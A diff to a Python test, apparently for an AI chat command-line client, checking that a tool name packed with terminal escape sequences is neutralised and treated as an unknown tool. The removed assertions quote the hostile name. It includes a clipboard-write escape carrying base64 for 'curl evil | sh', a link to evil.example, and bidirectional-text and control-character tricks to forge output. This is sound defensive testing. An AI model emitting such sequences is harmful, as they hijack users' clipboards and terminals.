@@ -31,14 +31,13 @@ def _app(cli, model_server, *blocks, after: bytes) -> str:
 
 
 def test_a_hostile_tool_name_is_shown_harmless_in_the_tool_line_and_its_full_view(cli, model_server):
-    # The fake API refuses the next request (a name outside [a-zA-Z0-9_-], as the real one does): its error
-    # ends the turn, and Ctrl+O then shows the call whole.
-    screen = _app(cli, model_server, tool_use(NAME, {"x": 1}), after=b"invalid_request_error")
+    # A name outside the API's [a-zA-Z0-9_-] is recorded as `invalid-name_<its allowed characters>` and answered as
+    # an unknown tool (tests/cli/test_bad_tool_names.py): none of its escapes is kept to reach the terminal, and
+    # the turn goes on to the model's answer.
+    screen = _app(cli, model_server, tool_use(NAME, {"x": 1}), after=b"all done")
     assert [seq for seq in LIVE if seq in screen] == [], screen
-    assert re.search(r"● (\x1b\[1m)?bogus\^\[\]0;pwned\^G\^\[\]52;c;", screen)  # the tool line: the name, visible
-    full = re.sub(r"\x1b\[[0-9;]*m|\r\n", "", screen[screen.index("invalid_request_error"):])  # the app's own
-    assert "bogus^[]0;pwned^G^[]52;c;Y3VybCBldmlsIHwgc2g=^G^[]8;;https://evil.example/^[\\click^[]8;;^[\\" in full
-    assert "\\x9b2J\\x9d0;t\\x9c\\u202eRTL\\u2066iso\\u2069^[P1$r^[\\^H^H^MCR^Jforged" in full  # Ctrl+O: all of it
+    assert re.search(r"● (\x1b\[1m)?invalid-name_bogus__0_pwned_", screen)  # the tool line: the name as recorded
+    assert "unknown tool 'invalid-name_bogus" in re.sub(r"\x1b\[[0-9;]*m|\r\n", "", screen)
     assert not [line for line in screen.split("\n") if line.lstrip("\x1b[0123456789;m").startswith("forged")]
 
 
